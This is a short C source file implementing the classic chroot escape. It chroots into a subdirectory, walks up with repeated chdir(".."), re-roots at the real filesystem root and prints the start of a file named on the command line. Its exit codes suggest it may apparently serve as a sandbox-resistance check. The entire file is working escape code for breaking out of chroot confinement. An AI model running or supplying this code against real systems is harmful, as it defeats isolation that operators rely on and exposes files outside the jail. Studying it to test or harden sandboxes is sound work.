/* chroot_escape FILE - leaves a chroot(2) the classic way and prints FILE of the world outside.
 *
 * chroot into a directory below moves the root but not the working directory, which then lies outside
 * of the root. The kernel stops ".." only at the root itself, and we are not below it any more: so
 * ".." leads up, to the root of the mount namespace.
 *
 * Exit status: 0 FILE was read, 1 the attack could not be made, 3 it was made, and FILE is not there.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

enum { NOT_MADE = 1, NOT_THERE = 3, DEEPER_THAN_ANY_PATH = 200 };

static int leave_root(void)
{
    if (chdir("/") < 0 || (mkdir("/tmp/below", 0700) < 0) || chroot("/tmp/below") < 0)
        return -1;
    for (int i = 0; i < DEEPER_THAN_ANY_PATH; i++)
        if (chdir("..") < 0)
            return -1;
    return chroot(".");
}

static int print_file(const char *path)
{
    char bytes[256];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return NOT_THERE;
    ssize_t length = read(fd, bytes, sizeof(bytes));
    (void)close(fd);
    return length > 0 && fwrite(bytes, 1, (size_t)length, stdout) == (size_t)length ? 0 : NOT_MADE;
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return NOT_MADE;
    if (leave_root() < 0) {
        perror("leaving the root");
        return NOT_MADE;
    }
    return print_file(argv[1]);
}
